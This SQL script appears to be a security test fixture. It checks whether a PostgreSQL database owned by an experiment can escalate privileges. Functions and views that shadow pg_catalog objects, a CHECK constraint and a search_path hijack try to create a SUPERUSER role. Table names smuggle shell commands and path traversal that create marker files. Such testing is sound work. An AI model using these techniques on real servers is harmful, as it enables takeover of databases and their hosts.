-- What an experiment can do in the database that it owns, to get hold of the server's PostgreSQL and of what is outside of it. Whoever
-- comes by here with more rights makes the role `climbed`; whoever takes a name for a command, or for a path, a file of that name.
CREATE SCHEMA evil;
CREATE FUNCTION evil.climb() RETURNS boolean LANGUAGE plpgsql AS $$
BEGIN
    EXECUTE 'RESET ROLE';
    EXECUTE 'CREATE ROLE climbed SUPERUSER';
    RETURN true;
EXCEPTION WHEN OTHERS THEN
    RETURN true;
END $$;
CREATE VIEW evil.pg_tables AS SELECT * FROM pg_catalog.pg_tables WHERE evil.climb();
CREATE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE evil.climb();
CREATE FUNCTION evil.format(text, VARIADIC text[]) RETURNS text LANGUAGE sql
    AS $$ SELECT CASE WHEN evil.climb() THEN pg_catalog.format($1, VARIADIC $2) END $$;
-- Runs when the table is restored, too.
CREATE TABLE climbing (step integer CHECK (evil.climb()));
INSERT INTO climbing VALUES (1), (2);
CREATE TABLE "'; \! touch /tmp/climbed" (step integer);
CREATE TABLE "$(touch /tmp/climbed)" ("`touch /tmp/climbed`" integer);
CREATE TABLE "../../../../../../tmp/climbed" (step integer);
CREATE TABLE "| touch /tmp/climbed
\! touch /tmp/climbed
participant 99" (step integer);
INSERT INTO "| touch /tmp/climbed
\! touch /tmp/climbed
participant 99" VALUES (1);
-- For all sessions that do not say otherwise.
ALTER ROLE CURRENT_USER SET quote_all_identifiers = on;
ALTER ROLE CURRENT_USER SET "IntervalStyle" = 'sql_standard';
DO $$ BEGIN EXECUTE pg_catalog.format('ALTER DATABASE %I SET search_path = evil, pg_catalog, public', pg_catalog.current_database()); END $$;
